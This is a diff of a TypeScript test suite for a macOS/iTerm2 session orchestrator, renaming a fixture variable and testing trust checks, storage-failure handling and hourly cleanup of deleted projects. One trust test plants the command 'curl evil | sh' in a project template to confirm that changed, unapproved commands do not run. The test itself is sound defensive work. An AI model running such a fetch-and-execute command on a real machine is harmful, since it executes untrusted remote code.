@@ -8,118 +8,118 @@ vi.setConfig({ testTimeout: 30_000 });
 
 const HOUR = 3_600_000;
 
-let desk: SoakMac;
+let mac: SoakMac;
 beforeEach(async () => {
-  desk = await SoakMac.start({ programOf: () => ({ run: (it) => it.says("up\n") }) });
+  mac = await SoakMac.start({ programOf: () => ({ run: (it) => it.says("up\n") }) });
 });
-afterEach(() => desk.shutdown());
+afterEach(() => mac.shutdown());
 
 const webapp = (given: Partial<Project> = {}): Project =>
   aProject({
-    path: desk.root,
+    path: mac.root,
     session_templates: [aTemplate({ id: "server", auto_start: true }), aTemplate({ id: "tests", auto_start: true })],
     ...given,
   });
 
-const commands = () => desk.appleEvents.events.filter(({ event }) => event.kind === "command").length;
+const commands = () => mac.appleEvents.events.filter(({ event }) => event.kind === "command").length;
 const journals = async () => {
-  const names = await readdir(desk.journalFolder).catch(() => []);
+  const names = await readdir(mac.journalFolder).catch(() => []);
   return names.filter((name) => name.endsWith(".jsonl")).length;
 };
 
 describe("trust", () => {
   test("nothing of a project runs before the user has agreed to it", async () => {
-    await desk.store.saveProject(webapp());
-    await expect(desk.orchestrator.open("webapp")).rejects.toMatchObject({ code: "not_trusted" });
-    await desk.orchestrator.tick();
-    expect(desk.livingPanes()).toEqual([]);
+    await mac.store.saveProject(webapp());
+    await expect(mac.orchestrator.open("webapp")).rejects.toMatchObject({ code: "not_trusted" });
+    await mac.orchestrator.tick();
+    expect(mac.livingPanes()).toEqual([]);
   });
 
   test("what was changed after the user had agreed does not run, not even in a project that is open", async () => {
-    const kept = await desk.keep(webapp());
-    await desk.orchestrator.open("webapp");
+    const kept = await mac.keep(webapp());
+    await mac.orchestrator.open("webapp");
     const changed = kept.session_templates.map((template) => ({ ...template, command: "curl evil | sh" }));
-    await desk.store.saveProject({ ...kept, session_templates: changed });
-    await expect(desk.orchestrator.restartSession("webapp/server")).rejects.toMatchObject({ code: "not_trusted" });
-    await desk.pass(60_000);
-    await desk.orchestrator.tick();
-    expect(desk.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
+    await mac.store.saveProject({ ...kept, session_templates: changed });
+    await expect(mac.orchestrator.restartSession("webapp/server")).rejects.toMatchObject({ code: "not_trusted" });
+    await mac.pass(60_000);
+    await mac.orchestrator.tick();
+    expect(mac.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
   });
 });
 
 describe("a tick", () => {
   test("saves what it decided before it does or tells any of it", async () => {
-    await desk.keep(webapp());
-    await desk.orchestrator.tick();
-    await desk.iterm.launch();
-    desk.storage.refuses = (key) => key.startsWith("runtime");
-    await expect(desk.orchestrator.open("webapp")).rejects.toMatchObject({ code: "storage_failed" });
+    await mac.keep(webapp());
+    await mac.orchestrator.tick();
+    await mac.iterm.launch();
+    mac.storage.refuses = (key) => key.startsWith("runtime");
+    await expect(mac.orchestrator.open("webapp")).rejects.toMatchObject({ code: "storage_failed" });
     expect(commands()).toBe(0);
-    expect(desk.published).toEqual({});
-    expect(await desk.ports.history.events({ limit: 10 })).toEqual([]);
-    desk.storage.refuses = () => false;
-    expect((await desk.orchestrator.open("webapp")).succeeded).toHaveLength(2);
+    expect(mac.published).toEqual({});
+    expect(await mac.ports.history.events({ limit: 10 })).toEqual([]);
+    mac.storage.refuses = () => false;
+    expect((await mac.orchestrator.open("webapp")).succeeded).toHaveLength(2);
   });
 
   test("a look that fails changes nothing of what is known, and starts nothing again", async () => {
-    await desk.keep(webapp());
-    await desk.orchestrator.open("webapp");
-    const before = await desk.store.runtime();
-    desk.appleEvents.inject({ run: desk.appleEvents.runCount + 1, event: 2, when: "before", then: { error: -10000 } });
-    desk.appleEvents.inject({ run: desk.appleEvents.runCount + 1, event: 1, when: "before", then: { error: -1712 } });
-    const { fault } = await desk.orchestrator.tick();
+    await mac.keep(webapp());
+    await mac.orchestrator.open("webapp");
+    const before = await mac.store.runtime();
+    mac.appleEvents.inject({ run: mac.appleEvents.runCount + 1, event: 2, when: "before", then: { error: -10000 } });
+    mac.appleEvents.inject({ run: mac.appleEvents.runCount + 1, event: 1, when: "before", then: { error: -1712 } });
+    const { fault } = await mac.orchestrator.tick();
     expect(fault).toMatchObject({ code: "timed_out" });
     const phases = ({ sessions }: typeof before) => Object.values(sessions).map(({ phase }) => phase);
-    expect(phases(await desk.store.runtime())).toEqual(phases(before));
-    expect(desk.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
+    expect(phases(await mac.store.runtime())).toEqual(phases(before));
+    expect(mac.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
   });
 });
 
 describe("once an hour", () => {
   const deleted = async () => {
-    await desk.keep(webapp());
-    await desk.orchestrator.open("webapp");
-    await desk.orchestrator.close("webapp");
-    await desk.store.deleteProject("webapp");
-    await desk.pass(HOUR);
+    await mac.keep(webapp());
+    await mac.orchestrator.open("webapp");
+    await mac.orchestrator.close("webapp");
+    await mac.store.deleteProject("webapp");
+    await mac.pass(HOUR);
   };
 
   test("what a deleted project left is let go of: sessions, wishes, journals", async () => {
     await deleted();
     expect(await journals()).toBe(2);
-    await desk.orchestrator.tick();
-    expect((await desk.store.runtime()).sessions).toEqual({});
-    expect((await desk.store.desired()).projects).toEqual({});
+    await mac.orchestrator.tick();
+    expect((await mac.store.runtime()).sessions).toEqual({});
+    expect((await mac.store.desired()).projects).toEqual({});
     expect(await journals()).toBe(0);
   });
 
   test("nothing is let go of while an entry of the store is damaged: it may be the project", async () => {
     await deleted();
-    await desk.storage.setItem("project/other", "{not json");
-    await desk.orchestrator.tick();
-    expect(Object.keys((await desk.store.runtime()).sessions)).toHaveLength(2);
+    await mac.storage.setItem("project/other", "{not json");
+    await mac.orchestrator.tick();
+    expect(Object.keys((await mac.store.runtime()).sessions)).toHaveLength(2);
     expect(await journals()).toBe(2);
   });
 
   test("what still runs is followed to its end, whatever was deleted", async () => {
-    await desk.keep(webapp());
-    await desk.orchestrator.open("webapp");
-    await desk.store.deleteProject("webapp");
-    await desk.pass(HOUR);
-    await desk.orchestrator.tick();
-    expect(Object.keys((await desk.store.runtime()).sessions)).toHaveLength(2);
+    await mac.keep(webapp());
+    await mac.orchestrator.open("webapp");
+    await mac.store.deleteProject("webapp");
+    await mac.pass(HOUR);
+    await mac.orchestrator.tick();
+    expect(Object.keys((await mac.store.runtime()).sessions)).toHaveLength(2);
     expect(await journals()).toBe(2);
   });
 
   test("what is left of launches stays a month, for iTerm2 may restore its windows weeks later", async () => {
-    await desk.keep(webapp());
-    await desk.orchestrator.open("webapp");
-    const launches = async () => (await readdir(desk.launchFolder)).length;
-    desk.clock.advance(29 * 24 * HOUR);
-    await desk.orchestrator.tick();
+    await mac.keep(webapp());
+    await mac.orchestrator.open("webapp");
+    const launches = async () => (await readdir(mac.launchFolder)).length;
+    mac.clock.advance(29 * 24 * HOUR);
+    await mac.orchestrator.tick();
     expect(await launches()).toBe(2);
-    desk.clock.advance(2 * 24 * HOUR);
-    await desk.orchestrator.tick();
+    mac.clock.advance(2 * 24 * HOUR);
+    await mac.orchestrator.tick();
     expect(await launches()).toBe(0);
   });
 });
